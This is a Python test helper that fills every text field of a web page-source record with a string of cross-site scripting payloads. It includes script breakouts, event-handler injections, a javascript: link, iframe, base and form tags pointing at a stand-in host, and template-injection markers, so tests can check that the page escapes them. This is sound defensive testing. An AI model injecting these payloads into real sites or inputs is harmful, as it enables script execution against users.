"""A record in which every text is an attack on the page that shows it."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from dateline.lineage.facts import Text
from dateline.web.source import PageSource

ATTACK = (
    "</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
    '"><iframe src=https://attack.example></iframe><a href="javascript:alert(4)">x</a>'
    "<base href=https://attack.example><form action=https://attack.example>"
    "<style>@import 'https://attack.example/a.css'</style><!-- ${alert(5)} {{alert(6)}} '\u2028"
)

_KEPT = re.compile(r"[A-Z][0-9a-z]{16}|\d{4}-\d\d-\d\d|")
"""Ids and days: what dateline itself writes, not reports."""


def attacked(value: Any) -> Any:
    """Give a value with the attack in front of each text in it, however deep."""
    if isinstance(value, str):
        return value if _KEPT.fullmatch(value) else ATTACK + value
    if isinstance(value, Text):
        return _text(value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{field.name: attacked(getattr(value, field.name)) for field in fields(value)}
        )
    if isinstance(value, tuple):
        parts = [attacked(part) for part in value]
        return type(value)(*parts) if hasattr(value, "_fields") else tuple(parts)
    if isinstance(value, Mapping):
        return {attacked(key): attacked(held) for key, held in value.items()}
    return value


def _text(text: Text) -> Text:
    """Spans must still fit, so the attack takes the place of the words."""
    filled = (ATTACK * (len(text.text) // len(ATTACK) + 1))[: len(text.text)]
    made: Text = replace(
        text,
        text=filled,
        publisher=attacked(text.publisher),
        language=attacked(text.language),
        url='https://attack.example/"onmouseover="alert(7)"><script>alert(8)</script>',
        credits=attacked(text.credits),
        published=attacked(text.published),
    )
    return made


def attack_record(source: PageSource) -> PageSource:
    """Give the record with the attack in every field."""
    made: PageSource = attacked(source)
    return made
